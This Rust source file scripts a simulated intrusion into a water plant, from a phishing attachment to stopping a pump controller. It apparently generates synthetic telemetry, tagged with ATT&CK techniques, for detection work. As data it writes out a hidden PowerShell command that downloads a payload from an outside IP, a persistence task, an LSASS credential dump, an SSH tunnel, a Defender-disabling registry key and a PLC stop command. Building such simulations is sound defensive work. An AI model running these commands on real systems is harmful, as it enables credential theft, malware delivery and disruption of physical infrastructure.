//! From a mail to a stopped pump, within one working day. This is the story of the demo.
//!
//! It follows no single report; each part of it is in many: an attachment, a hidden script, a password from memory, remote desktops over
//! the jump host, and the engineering workstation, from where one request is enough to stop a controller.

use super::{CMD, EXPLORER, POWERSHELL, Says, Script, Tale};
use crate::clock::{MILLI, MINUTE, Moment, SECOND};
use crate::plant::Asset;
use crate::plant::places::{EWS01, JUMP01, MAIL01, OFFICE, WATER, WATER_PUMP3};
use crate::sensors::{Launch, SYSTEM};

pub(super) const SCRIPT: Script = Script {
    name: "mail-to-pump",
    title: "From a phished mailbox over the jump host to a stopped pump",
    plant: &WATER,
    end: Moment::local(3, 16, 0),
    play,
};

const PC: &Asset = &OFFICE[6];
const USER: &str = "glorenz";
const ADMIN: &str = "msander";
const ENGINEER: &str = "kpohl";
const OUTSIDE: &str = "203.0.113.66";

fn play(tale: &mut Tale<'_>) {
    opens_mail(tale);
    stays(tale);
    steals_account(tale);
    goes_to_jump_host(tale);
    goes_to_station(tale);
    prepares(tale);
    stops_pump(tale);
}

fn opens_mail(tale: &mut Tale<'_>) {
    tale.step(
        "initial-access",
        "a document in a mail is opened; it starts a hidden script that fetches a program",
        &["T1566.001", "T1204.002", "T1059.001", "T1105"],
        "account:glorenz asset:office07 address:203.0.113.66",
    );
    let at = tale.before_end(210);
    let wire = tale.pen.wire("198.51.100.25", MAIL01.ip, 25);
    let event =
        tale.pen.smtp(at.plus(-6 * MINUTE), &wire, "billing@example.org", "glorenz@example.net", "Invoice 2026-1107");
    tale.quiet(event);
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let opens = Launch {
        account: USER,
        parent: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        image: word,
        command: r#""WINWORD.EXE" /n "C:\Users\glorenz\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\invoice.docm""#,
    };
    let event = tale.pen.process(at.plus(-20 * SECOND), PC, opens);
    tale.quiet(event);
    let script = Launch {
        account: USER,
        parent: word,
        image: POWERSHELL,
        command: "powershell.exe -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.66/u.bin','C:\\Users\\Public\\u.exe')\"",
    };
    tale.command(at, PC, script);
    let wire = tale.pen.wire(PC.ip, OUTSIDE, 80);
    let event = tale.pen.http(at.plus(2 * SECOND), &wire, "GET", OUTSIDE, "/u.bin");
    tale.quiet(event);
    let event = tale.pen.conn(at.plus(2 * SECOND), &wire, "http", 3);
    tale.quiet(event);
}

fn stays(tale: &mut Tale<'_>) {
    tale.step("persistence", "a task keeps the program", &["T1053.005"], "account:glorenz asset:office07");
    let at = tale.before_end(200);
    let task = Launch {
        account: USER,
        parent: POWERSHELL,
        image: r"C:\Windows\System32\schtasks.exe",
        command: r"schtasks /create /tn Updater /sc minute /mo 30 /tr C:\Users\Public\u.exe",
    };
    tale.command(at, PC, task);
    let event = tale.pen.registers(at.plus(SECOND), PC, USER, r"\Updater", r"C:\Users\Public\u.exe");
    tale.seen(event);
}

fn steals_account(tale: &mut Tale<'_>) {
    tale.step(
        "credential-access",
        "the memory of LSASS is dumped; the administrator had helped there in the morning",
        &["T1003.001"],
        "account:glorenz account:msander asset:office07",
    );
    let at = tale.before_end(170);
    let dump = Launch {
        account: USER,
        parent: CMD,
        image: r"C:\Windows\System32\rundll32.exe",
        command: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\d.bin full",
    };
    tale.command(at, PC, dump);
    let event = tale.pen.reads_lsass(at.plus(300 * MILLI), PC, dump);
    tale.seen(event);
}

fn goes_to_jump_host(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "with the administrator's account to the jump host, from an office PC that never goes there",
        &["T1021.001", "T0886", "T1078"],
        "account:msander asset:office07 asset:jump01",
    );
    let at = tale.before_end(130);
    let session = tale.pen.desktop(at, PC.ip, &JUMP01, ADMIN, 110);
    let marks = tale.session(session, Says::Something, Says::Something);
    tale.hop("asset:office07", "asset:jump01", "remote_session", None, marks);
}

fn goes_to_station(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "over a forwarded port of a secure shell to the engineering workstation, with the engineer's password",
        &["T1021.004", "T1572", "T0886", "T0859"],
        "account:kpohl account:msander asset:jump01 asset:ews01",
    );
    let at = tale.before_end(90);
    let tunnel = Launch {
        account: ADMIN,
        parent: CMD,
        image: r"C:\Windows\System32\OpenSSH\ssh.exe",
        command: "ssh.exe -N -L 33890:127.0.0.1:3389 kpohl@10.40.10.20",
    };
    let forwarded = tale.command(at.plus(-SECOND), &JUMP01, tunnel);
    let session = tale.pen.shell(at, JUMP01.ip, &EWS01, ENGINEER, 70);
    let mut marks = tale.session(session, Says::Nothing, Says::Nothing);
    marks.push(forwarded);
    tale.hop("asset:jump01", "asset:ews01", "remote_session", Some(("engineering-access", true)), marks);
}

fn prepares(tale: &mut Tale<'_>) {
    tale.step(
        "defense-evasion",
        "protection of the engineering workstation is switched off",
        &["T1562.001", "T1112"],
        "account:kpohl asset:ews01",
    );
    let at = tale.before_end(70);
    let off = Launch { account: SYSTEM, parent: CMD, image: r"C:\Windows\System32\reg.exe", command: "reg add" };
    let key = r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware";
    let event = tale.pen.sets(at, &EWS01, off, key, "DWORD (0x00000001)");
    tale.seen(event);
}

fn stops_pump(tale: &mut Tale<'_>) {
    tale.step(
        "inhibit-response-function",
        "the controller of the largest pump is stopped from the engineering workstation",
        &["T0858", "T0816", "T0827", "T0881"],
        "account:kpohl asset:ews01 asset:plc-pump3",
    );
    let at = tale.before_end(45);
    let program = Launch {
        account: ENGINEER,
        parent: EXPLORER,
        image: r"C:\Users\Public\s7ctl.exe",
        command: "s7ctl.exe 10.40.20.13 stop",
    };
    let event = tale.pen.process(at.plus(-2 * SECOND), &EWS01, program);
    tale.quiet(event);
    let event = tale.pen.connects(at.plus(-SECOND), &EWS01, program, WATER_PUMP3.ip, 102);
    let mut marks = vec![tale.seen(event)];
    let wire = tale.pen.reaches(&EWS01, &WATER_PUMP3);
    let event = tale.pen.conn(at.plus(-SECOND), &wire, "", 4);
    tale.quiet(event);
    let event = tale.pen.stops(at, &wire, &WATER_PUMP3);
    marks.push(tale.seen(event));
    tale.hop("asset:ews01", "asset:plc-pump3", "operation", Some(("programming", true)), marks.clone());
    tale.effect(&WATER_PUMP3, "mode_stop", marks);
}
